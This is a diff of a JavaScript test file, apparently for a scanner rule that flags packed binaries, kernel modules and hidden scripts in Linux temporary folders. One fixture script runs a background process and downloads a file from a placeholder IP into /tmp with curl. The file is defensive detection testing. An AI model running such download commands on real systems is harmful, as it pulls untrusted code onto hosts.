@@ -17,6 +17,11 @@ describe('odd-file', () => {
     expect(shown(report).sort()).toEqual(['high /dev/shm/.x/kdev', 'low /tmp/make', 'medium /dev/.lib/log', 'medium /dev/nul', 'medium /dev/shm/run', 'medium /tmp/.hid/a', 'medium /tmp/job.sh']);
   });
 
+  it('finds packed programs and kernel modules in temporary folders', async () => {
+    const packed = { text: Buffer.concat([elf.text, Buffer.alloc(150), Buffer.from('UPX!'), Buffer.alloc(300)]), mode: 0o755 };
+    expect(shown(await scanRoot([oddFile], { '/var/tmp/update': packed, '/var/tmp/.m/net.ko': elf.text, '/tmp/build/mod.ko': elf.text, '/tmp/notes.ko.txt': 'x' })).sort()).toEqual(['high /var/tmp/update', 'medium /var/tmp/.m/net.ko']);
+  });
+
   it('takes the scripts of another Linux in a temporary folder for one heap', async () => {
     const script = { text: '#!/bin/sh\nnohup x &\ncurl -s http://198.51.100.4/x > /tmp/x\n', mode: 0o755 };
     const report = await scanRoot([oddFile], { '/tmp/root/var/lib/dpkg/status': 'Package: x\n', '/tmp/root/usr/sbin/one': script, '/tmp/root/usr/sbin/two': script });
